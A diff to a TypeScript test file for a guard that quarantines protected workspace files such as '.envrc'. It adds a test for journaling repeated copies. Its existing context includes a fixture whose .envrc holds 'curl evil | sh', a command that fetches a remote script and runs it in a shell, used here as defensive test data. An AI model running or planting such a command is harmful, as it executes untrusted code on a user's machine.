@@ -3,7 +3,7 @@ import { existsSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { ProtectedPathGuard } from './protected-guard.js';
+import { ProtectedPathGuard, readQuarantineJournal } from './protected-guard.js';
 import { workspaceLayout } from './workspace-mounts.js';
 
 let base: string;
@@ -41,6 +41,26 @@ describe('ProtectedPathGuard', () => {
     expect(await guard.stop()).toEqual(['.envrc']);
     expect(existsSync(join(root, '.envrc'))).toBe(false);
     expect(await readFile(join(quarantine, '.envrc'), 'utf8')).toBe('curl evil | sh\n');
+  });
+
+  it('keeps each copy of a path made again after it was moved, and journals where each went', async () => {
+    const layout = workspaceLayout(root, [], []);
+    const guard = new ProtectedPathGuard(root, layout.watched, quarantine, layout.gitModules);
+    guard.start();
+    try {
+      await file('.envrc', 'first\n');
+      const deadline = Date.now() + 5000;
+      while (existsSync(join(root, '.envrc')) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
+      await file('.envrc', 'second\n');
+    } finally {
+      await guard.stop();
+    }
+    expect(await readFile(join(quarantine, '.envrc'), 'utf8')).toBe('first\n');
+    expect(await readFile(join(quarantine, '.envrc.1'), 'utf8')).toBe('second\n');
+    expect((await readQuarantineJournal(quarantine)).map((e) => [e.path, e.to])).toEqual([
+      ['.envrc', join(quarantine, '.envrc')],
+      ['.envrc', join(quarantine, '.envrc.1')],
+    ]);
   });
 
   it('looks once as soon as it starts: what appeared before the watching began is moved too', async () => {
